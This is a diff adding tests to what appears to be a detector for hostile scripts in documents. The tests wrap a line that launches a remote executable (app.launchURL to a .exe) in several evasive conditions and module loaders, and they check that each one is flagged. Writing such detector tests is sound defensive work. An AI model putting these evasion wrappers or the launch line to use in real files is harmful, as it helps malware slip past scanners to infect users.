@@ -664,6 +664,24 @@ suite('besides objects', () => {
   })
 })
 
+suite('a condition that may be computed wrongly hides nothing', () => {
+  const launch = 'app.launchURL("http://192.0.2.1/a.exe")'
+  const conditions = {
+    'what an object lacks': `if(!{}.x){${launch}}`,
+    'arguments that are written': `function g(a){arguments[0]=5;return a}if(g(1)==5){${launch}}`,
+    'escaped characters': `if(escape(" ")=="%20"){${launch}}`,
+    'an object with a value': `if({valueOf:function(){return 3}}==3){${launch}}`,
+    'a long list': `var l=[];for(var i=0;i<5e5;i++)l.push(1);if(l.length==5e5){${launch}}`,
+    'a date': `if(new Date(0).getTime()==0){${launch}}`,
+    'one that is never true': `if(1==2){${launch}}`,
+    'modules that call each other': `(function(m){var c={};function r(i){if(c[i])return c[i].exports;var e=c[i]={exports:{}};m[i].call(e.exports,e,e.exports,r);return e.exports}return r(0)})([function(m,e,r){r(1).go()},function(m,e,r){e.go=function(){${launch}}}])`,
+  }
+  for (const [name, source] of Object.entries(conditions))
+    test(name, () => assert.deepEqual(threats(script(source)), ['AutomaticProgram!']))
+  test('a function that nothing calls does not count', () =>
+    assert.deepEqual(threats(script(`function g(){${launch}}`)), []))
+})
+
 suite('a value that was not followed to its end', () => {
   /** An animation, as packages for slides write it: each step may start the next. */
   const animation = (use: string): string => `var id; var n; var at; var isRight; var go, back, stop, seek, isPlaying;
